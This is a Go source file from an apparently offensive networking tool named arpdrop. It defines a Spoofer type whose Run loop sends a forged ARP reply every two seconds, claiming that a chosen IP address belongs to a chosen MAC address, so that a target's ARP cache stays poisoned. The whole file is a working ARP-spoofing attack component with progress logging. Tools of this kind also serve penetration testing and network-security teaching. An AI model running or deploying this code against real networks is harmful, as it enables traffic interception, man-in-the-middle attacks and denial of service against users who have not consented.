package attack

import (
	"context"
	"fmt"
	"net/netip"
	"sync/atomic"
	"time"

	"firestige.xyz/arpdrop/internal/core"
	"firestige.xyz/arpdrop/internal/core/codec"
	"firestige.xyz/arpdrop/internal/link"
	"firestige.xyz/arpdrop/internal/log"
)

// DefaultInterval keeps a forged entry fresh well inside typical ARP cache lifetimes.
const DefaultInterval = 2 * time.Second

// Spoofer repeatedly claims that one IPv4 address belongs to a chosen MAC.
// Sent may be read from any goroutine while Run is in progress.
type Spoofer struct {
	interval    time.Duration
	reportEvery uint64
	sent        atomic.Uint64
}

// NewSpoofer returns a Spoofer that transmits once per interval and logs
// progress every reportEvery frames (0 disables progress logs).
func NewSpoofer(interval time.Duration, reportEvery int) *Spoofer {
	if interval <= 0 {
		interval = DefaultInterval
	}
	if reportEvery < 0 {
		reportEvery = 0
	}
	return &Spoofer{interval: interval, reportEvery: uint64(reportEvery)}
}

// Interval returns the delay between transmissions.
func (s *Spoofer) Interval() time.Duration {
	return s.interval
}

// Sent returns the number of forged replies transmitted so far.
func (s *Spoofer) Sent() uint64 {
	return s.sent.Load()
}

// Run transmits an ARP reply claiming forgedIP is at forgedMAC to (dstIP, dstMAC),
// then sleeps for the interval, forever. It returns only when a transmit fails
// or ctx is done. dstMAC is used as given for the whole run and never re-resolved.
func (s *Spoofer) Run(ctx context.Context, tx link.Sender, forgedIP netip.Addr, forgedMAC core.MAC, dstIP netip.Addr, dstMAC core.MAC) error {
	logger := log.GetLogger().WithFields(log.Fields{
		"forged_ip":  forgedIP.String(),
		"forged_mac": forgedMAC.String(),
		"dst_ip":     dstIP.String(),
		"dst_mac":    dstMAC.String(),
	})
	logger.WithField("interval", s.Interval().String()).Info("sending forged ARP replies")

	for {
		if err := ctx.Err(); err != nil {
			return err
		}

		frame := codec.EncodeARPFrame(core.OpReply, forgedIP, forgedMAC, dstIP, dstMAC)
		if err := tx.WritePacketData(frame); err != nil {
			return fmt.Errorf("%w: send forged reply after %d frames: %w", core.ErrTransport, s.sent.Load(), err)
		}

		n := s.sent.Add(1)
		if s.reportEvery > 0 && n%s.reportEvery == 0 {
			logger.WithField("sent", n).Info("forged replies sent")
		} else {
			logger.WithField("sent", n).Debug("forged reply sent")
		}

		wait := time.NewTimer(s.Interval())
		select {
		case <-ctx.Done():
			wait.Stop()
			return ctx.Err()
		case <-wait.C:
		}
	}
}
